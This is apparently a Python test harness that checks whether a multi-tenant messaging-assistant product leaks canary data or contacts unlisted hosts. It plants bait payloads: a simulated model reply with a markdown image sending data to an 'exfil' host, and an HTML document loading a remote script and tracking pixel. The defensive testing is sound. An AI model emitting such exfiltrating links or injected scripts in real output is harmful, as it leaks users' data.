"""A day in the life of two businesses, with everything in it that has data leave: and with baits, hosts on no list that
a careless server would contact."""

import json
import pathlib
import re
import subprocess
import time

from authority import Authority
from fakes import Bucket, Relay, Simulator, Supabase, as_json
from hosts import Heard, Reply, World
from product import (APP_ID, APP_SECRET, BACKUPS, FILES, MODEL_KEY, OTHER_MODEL, PAGE_ID, PROXY, SUPABASE, WABA_ID,
                     Product, until)
from server import PASSWORD, Person, totp

NUMBERS = ["200000000000001", "200000000000002"]
INSTAGRAM_ID, PAGE_INSTAGRAM_ID = "17840000000000001", "17840000000000002"
# The businesses' own systems.
STOCK, FORMER, HOOKS = "stock.casaluna.example", "former.casaluna.example", "hooks.casaluna.example"
CRM, EVENTS = "crm.rionegro.example", "events.rionegro.example"

# What is nobody's but the people's: none of it may cross in clear.
PEOPLE = {"Canaria Alba": "5493415550101", "Canaria Bruna": "5491146660202", "Canaria Celia": "5492614770303",
          "Canaria Delfina": "5493514880404", "Canaria Elena": "5492215990505"}
ALBA, BRUNA, CELIA, DELFINA, ELENA = PEOPLE
WORD = "kanarienvogel"
OWNER, ADMIN = "canary-owner@assistants.example", "canary-admin@casaluna.example"
CANARIES = [*PEOPLE, *PEOPLE.values(), WORD, OWNER, ADMIN, PASSWORD, APP_SECRET, MODEL_KEY, "simulated-access-token",
            "simulated-page-token", "simulated-instagram-token", "canary-files-secret", "canary-backups-secret",
            "canary-mail-password", "canary-tool-secret"]

# Hosts that nobody listed, by what would have them contacted.
ELSEWHERE = "elsewhere.example"
BAITS = {
    f"preview.{ELSEWHERE}": "a link in what a contact writes",
    f"exfil.{ELSEWHERE}": "a picture's address in what the model answers",
    f"described.{ELSEWHERE}": "the address that Meta's answer gives for a file of WhatsApp",
    f"attached.{ELSEWHERE}": "the address that a webhook gives for a file of Messenger",
    f"moved.{ELSEWHERE}": "a redirect of a tool",
    f"receiver.{ELSEWHERE}": "a redirect of a webhook's receiver",
    f"model.{ELSEWHERE}": "a redirect of the model's server",
    f"pixel.{ELSEWHERE}": "a picture and a program in a document",
    f"linked.{ELSEWHERE}": "a picture that an operator sends by its address",
    f"said.{ELSEWHERE}": "an address in what a tool answers",
    PROXY: "a proxy that the environment names",
}
DOCUMENT = f"""<html><head><script src="https://pixel.{ELSEWHERE}/x.js"></script></head>
<body><h1>Returns</h1><p>Everything can be returned within thirty days, says {WORD}.</p>
<img src="https://pixel.{ELSEWHERE}/1.png"></body></html>"""


class Quick(Person):
    """Somebody who need not wait for the next code: the server takes that of the next half minute."""

    def code(self) -> str:
        now = int(time.time()) // 30
        step = max(now, self.used + 1)
        until("the next code counts", lambda: step <= int(time.time()) // 30 + 1, 60)
        self.used = step
        return totp(self.secret, step * 30)


class Play:
    def __init__(self, product: Product, world: World, authority: Authority, folder: pathlib.Path):
        self.product, self.world, self.folder = product, world, folder
        log = open(folder / "simulator.log", "wb")
        words = [product.binary, "simulator", "--json", "--port", "0", "--numbers", "2", "--no-limits",
                 "--first-retry-ms", "100", "--retry-max-ms", "500", "--set", "log.filter=warn"]
        self.process = subprocess.Popen(words, cwd=folder, stdout=subprocess.PIPE, stderr=log, text=True, env={})
        said = self.process.stdout.readline()
        if not said:
            raise SystemExit(f"the simulator did not start:\n{(folder / 'simulator.log').read_text()}")
        self.simulator = Simulator(json.loads(said)["listening"])
        self.relay = Relay(self.simulator, APP_SECRET)
        self.users = Supabase(authority, SUPABASE, ADMIN)
        self.files, self.backups = Bucket("/storage/v1/s3/files"), Bucket("/backups")
        self.laid: set[str] = {PROXY}
        self.tenants: list[str] = []
        self.keys: list[str] = []
        self.hooks: list[str] = []
        self.redirects = {f"receiver.{ELSEWHERE}", f"model.{ELSEWHERE}"}
        self.answer()

    def end(self) -> None:
        self.process.terminate()
        try:
            self.process.wait(20)
        except subprocess.TimeoutExpired:
            self.process.kill()
            self.process.wait()

    # Who answers.

    def answer(self) -> None:
        def tool(heard: Heard) -> Reply:
            self.laid.add(f"said.{ELSEWHERE}")
            return as_json({"state": f"on its way, {WORD}", "more": f"https://said.{ELSEWHERE}/orders"})

        def moved(_: Heard) -> Reply:
            self.laid.add(f"moved.{ELSEWHERE}")
            return Reply(302, headers={"Location": f"https://moved.{ELSEWHERE}/stock"})

        def once(host: str, then, path: str = "/"):
            """Answers with a redirect the first time."""
            def reply(heard: Heard) -> Reply:
                if host in self.redirects and heard.path.startswith(path):
                    self.redirects.discard(host)
                    self.laid.add(host)
                    return Reply(307, headers={"Location": f"https://{host}{heard.path}"})
                return then(heard)
            return reply

        self.simulator.next = {
            "whatsapp": ["lookaside.fbsbx.com", "mmg.whatsapp.net", f"described.{ELSEWHERE}", "lookaside.fbsbx.com"],
            "page": ["scontent.xx.fbcdn.net", f"attached.{ELSEWHERE}", "cdn.fbsbx.com"],
            "instagram": ["scontent.cdninstagram.com", "lookaside.fbsbx.com"],
        }
        taken = lambda _: Reply(204)
        self.world.answers = {
            STOCK: tool, CRM: tool, FORMER: moved, HOOKS: taken,
            EVENTS: once(f"receiver.{ELSEWHERE}", taken),
            "api.openai.com": once(f"model.{ELSEWHERE}", self.simulator, "/v1/chat/"),
            SUPABASE.removeprefix("https://"): self.users, FILES: self.files, BACKUPS: self.backups,
        }
        # Whoever else is contacted answers too, so that a run goes on and tells of it in the end.
        self.world.anybody = self.simulator

    # Set up.

    def set_up(self) -> None:
        product = self.product
        self.owner_token = product.cli("account", "create-owner", OWNER, "--name", "Owner")["token"]
        app = product.cli("meta-app", "create", "Assistants", "--app-id", APP_ID)
        self.webhook = app["webhook"]
        first, second = product.tenant("Casa Luna"), product.tenant("Rio Negro")
        self.tenants = [first, second]
        self.channels = [
            (first, product.channel(first, app["id"], "whatsapp", "--name", "Number", "--phone-number-id", NUMBERS[0],
                                    "--account-id", WABA_ID)),
            (first, product.channel(first, app["id"], "page", "--name", "Page", "--page-id", PAGE_ID)),
            (second, product.channel(second, app["id"], "whatsapp", "--name", "Number", "--phone-number-id",
                                     NUMBERS[1], "--account-id", WABA_ID)),
            (second, product.channel(second, app["id"], "login", "--name", "luna", "--instagram-id", INSTAGRAM_ID)),
            (second, product.channel(second, app["id"], "page", "--name", "luna.page", "--instagram-id",
                                     PAGE_INSTAGRAM_ID, "--through-page", PAGE_ID)),
        ]
        scopes = [word for scope in ("read", "operate", "manage", "dsar") for word in ("--scope", scope)]
        desk = lambda tenant: product.cli("key", "create", "desk", "--tenant", tenant, *scopes)["key"]
        self.keys = [desk(tenant) for tenant in self.tenants]
        self.platform = product.cli("key", "create", "ops", "--scope", "platform")["key"]

    def tool(self, name: str, host: str, method: str) -> dict:
        return {
            "name": name, "description": "Looks something up.", "method": method, "url": f"https://{host}/api/{name}",
            "parameters": {"type": "object", "properties": {"number": {"type": "string"}}},
            "secret": {"header": "Authorization", "value": "Bearer canary-tool-secret"},
        }

    def assistant(self, tools: list[dict], more: dict) -> dict:
        return {
            "enabled": True, "task": "Answer questions about orders and returns.", "instructions": "Be short.",
            "model": None, "temperature": 0.2, "base_url": None, "languages": ["en"], "quiet_ms": 0, "cap_ms": 0,
            "media_cap_ms": 5_000, "output_tokens_max": 800, "prompt_tokens_max": 8_000, "fallback_text": "Soon.",
            "moderation": {"before": True, "after": True}, "tools": tools, **more,
        }

    # People who work here.

    def people(self) -> None:
        product = self.product
        owner = Quick(product, OWNER)
        owner.must("POST", "/v1/auth/password/reset", {"token": self.owner_token, "password": PASSWORD})
        owner.sign_in()
        owner.prove()
        invited = {"email": ADMIN, "name": "Canary Admin", "role": "tenant_admin"}
        owner.must("POST", f"/v1/tenants/{self.tenants[0]}/invitations", invited)
        token = until("the invitation was mailed", lambda: self.mailed(ADMIN))
        self.admin = Quick(product, ADMIN)
        self.admin.must("POST", "/v1/auth/invitations/accept", {"token": token, "password": PASSWORD})
        signed_in = self.admin.must("POST", "/v1/auth/supabase", {"access_token": self.users.token(time.time())})
        self.admin.csrf = signed_in["csrf_token"]

    def mailed(self, to: str) -> str | None:
        """The token in the link of a mail."""
        with self.world.lock:
            mails = list(self.world.mails)
        for mail in mails:
            text = mail.replace(b"=\r\n", b"").replace(b"=3D", b"=").decode(errors="replace")
            found = re.search(r"/invitation#token=([A-Za-z0-9_-]+)", text)
            if f"<{to}>" in text and found:
                return found.group(1)
        return None

    def business(self) -> None:
        """What the businesses set up: assistants, tools, webhooks, documents, tests of their channels."""
        product, (first, second), (one, two) = self.product, self.tenants, self.keys
        tools = [self.tool("find_order", STOCK, "GET"), self.tool("former_stock", FORMER, "POST")]
        product.must(one, "PUT", f"/v1/tenants/{first}/assistant", self.assistant(tools, {}))
        own = {"base_url": f"https://{OTHER_MODEL}/v1", "api_key": MODEL_KEY}
        product.must(two, "PUT", f"/v1/tenants/{second}/assistant",
                     self.assistant([self.tool("find_client", CRM, "POST")], own))
        hooks = (first, one, f"https://{HOOKS}:8443/iassistance"), (second, two, f"https://{EVENTS}/in")
        for tenant, key, url in hooks:
            made = product.must(key, "POST", f"/v1/tenants/{tenant}/webhooks", {"url": url, "kinds": ["*"]})
            self.hooks.append(made["webhook"]["id"])
        document = product.must(one, "POST", f"/v1/tenants/{first}/knowledge?title=Returns", DOCUMENT.encode(),
                                {"Content-Type": "text/html"})
        ready = lambda: product.must(one, "GET", f"/v1/tenants/{first}/knowledge/{document['id']}")["state"]
        until("the document can be found", lambda: "ready" in json.dumps(ready()))
        self.laid.add(f"pixel.{ELSEWHERE}")
        self.relay.to = product.address
        self.simulator.control("/sim/callback", {"url": self.relay.url + self.webhook, "verify": True})
        for name, number in PEOPLE.items():
            self.simulator.control("/sim/contacts", {"name": name, "wa_id": number})
        calling = lambda words, name: {
            "when_contains": words, "answer": f"Here: {{result}} {WORD}",
            "rounds": [{"calls": [{"name": name, "arguments": {"number": f"{WORD}-4711"}}]}],
        }
        looking = {"when_contains": "return", "answer": f"Thirty days, {WORD}.",
                   "rounds": [{"calls": [{"name": "search_knowledge", "arguments": {"query": f"returns {WORD}"}}]}]}
        self.simulator.control("/sim/answers", [
            calling("order", "find_order"), calling("former", "former_stock"), calling("client", "find_client"),
            looking,
            {"when_contains": "picture", "answer": f"![{WORD}](https://exfil.{ELSEWHERE}/?q={WORD})"},
        ])

    # People who write.

    def does(self, who: str, account: str, act: dict) -> None:
        """Somebody does something, and is answered."""
        before = self.answers(who)
        self.simulator.control("/sim/act", {"contact": who, "account": account, "act": act})
        until(f"{who} was answered on {account} after {act}", lambda: self.answers(who) > before)

    def answers(self, who: str) -> int:
        said = self.simulator.control(f"/sim/transcript?contact={PEOPLE[who]}")
        return sum(each["direction"] == "to_contact" for each in said)

    def conversations(self) -> None:
        text = lambda words: {"kind": "text", "text": f"{words}, {WORD}"}
        file = lambda media, caption="": {"kind": "file", "media": media, "caption": caption}
        number, page, login = NUMBERS[0], PAGE_ID, INSTAGRAM_ID
        self.does(ALBA, number, text(f"hello, look at https://preview.{ELSEWHERE}/{WORD}"))
        self.does(ALBA, number, text("where is my order"))
        self.does(ALBA, number, text("what of the former one"))
        self.does(ALBA, number, text("how long can I return it"))
        self.does(ALBA, number, text("show me a picture"))
        self.does(ALBA, number, file("image", WORD))
        self.does(ALBA, number, file("voice"))
        self.does(ALBA, number, file("document", WORD))
        self.does(BRUNA, page, text("hello"))
        self.does(BRUNA, page, file("image"))
        self.does(BRUNA, page, file("image"))
        self.does(CELIA, login, text("hello, I am a client"))
        self.does(CELIA, login, file("image"))
        self.does(CELIA, login, {"kind": "story_mention"})
        self.does(DELFINA, PAGE_INSTAGRAM_ID, text("hello"))
        self.does(ELENA, NUMBERS[1], text("hello, I am a client"))

    def operators(self) -> None:
        """Somebody takes over and sends files, asks for what is new, has somebody erased; a backup is made."""
        product, first, key = self.product, self.tenants[0], self.keys[0]
        picture = (pathlib.Path(__file__).parent.parent.parent / "simulator/src/assets/samples/image.png").read_bytes()
        taken = product.must(key, "POST", f"/v1/tenants/{first}/media", picture, {"Content-Type": "image/png"})
        stored = {"at": "stored", "id": taken["id"], "bytes": taken["bytes"]}
        linked = {"at": "link", "url": f"https://linked.{ELSEWHERE}/{WORD}.png"}
        for conversation in self.listed(0):
            base, sent = f"/v1/tenants/{first}/conversations/{conversation['id']}", {"operator": "Ada"}
            product.must(key, "POST", f"{base}/takeover", sent)
            for source in (stored, linked):
                media = {"type": "media", "items": [{"kind": "image", "mime": "image/png", "source": source}]}
                product.must(key, "POST", f"{base}/messages", {**sent, "content": media})
            product.must(key, "POST", f"{base}/handback", sent)
        for tenant, channel in self.channels[:2]:
            self.admin.must("POST", f"/v1/tenants/{tenant}/channels/{channel}/test")
            self.admin.must("POST", f"/v1/tenants/{tenant}/channels/{channel}/subscribe")
        self.admin.ask("GET", f"/v1/tenants/{first}/channels/{self.channels[0][1]}/templates")
        product.must(self.platform, "POST", "/v1/backups", {})
        until("the backup was made", lambda: product.must(self.platform, "GET", "/v1/backups")["items"])

    def listed(self, place: int) -> list[dict]:
        tenant, key = self.tenants[place], self.keys[place]
        return self.product.must(key, "GET", f"/v1/tenants/{tenant}/conversations")["items"]

    def settled(self) -> bool:
        """Whether nothing waits: no webhook to the server, no message to a contact, no event to a receiver."""
        waits = self.simulator.control("/sim/state")["webhooks"]["pending"]
        for place, (tenant, key) in enumerate(zip(self.tenants, self.keys)):
            for conversation in self.listed(place):
                path = f"/v1/tenants/{tenant}/conversations/{conversation['id']}/outbox"
                waits += len(self.product.must(key, "GET", path)["items"])
            path = f"/v1/tenants/{tenant}/webhooks/{self.hooks[place]}/deliveries?limit=200"
            deliveries = self.product.must(key, "GET", path)["items"]
            waits += sum(each["state"] != "delivered" for each in deliveries)
        return waits == 0

    def erase(self) -> None:
        """Somebody is erased, and the tenant's receiver is told."""
        tenant, key = self.tenants[1], self.keys[1]
        contact = self.listed(1)[0]["contact"]["id"]
        path = f"/v1/tenants/{tenant}/contacts/{contact}/erasure"
        self.product.must(key, "POST", path, {"ground": "They asked for it."})

    def afterwards(self) -> None:
        """What the command line contacts by itself."""
        tenant, channel = self.channels[3]
        self.product.cli("channel", "test", "--tenant", tenant, channel)
        self.product.cli("backup", "list", "--from", "s3://backups/iassistance")

    def tenants_own(self) -> dict[str, str]:
        """The hosts that the tenants listed, as the product itself tells: the addresses of tools and of webhooks."""
        own = {}
        for tenant, key in zip(self.tenants, self.keys):
            settings = self.product.must(key, "GET", f"/v1/tenants/{tenant}/assistant")
            for tool in settings["tools"]:
                own[tool["url"]] = f"the tool {tool['name']}"
            for hook in self.product.must(key, "GET", f"/v1/tenants/{tenant}/webhooks")["items"]:
                own[hook["url"]] = "a webhook"
        return own
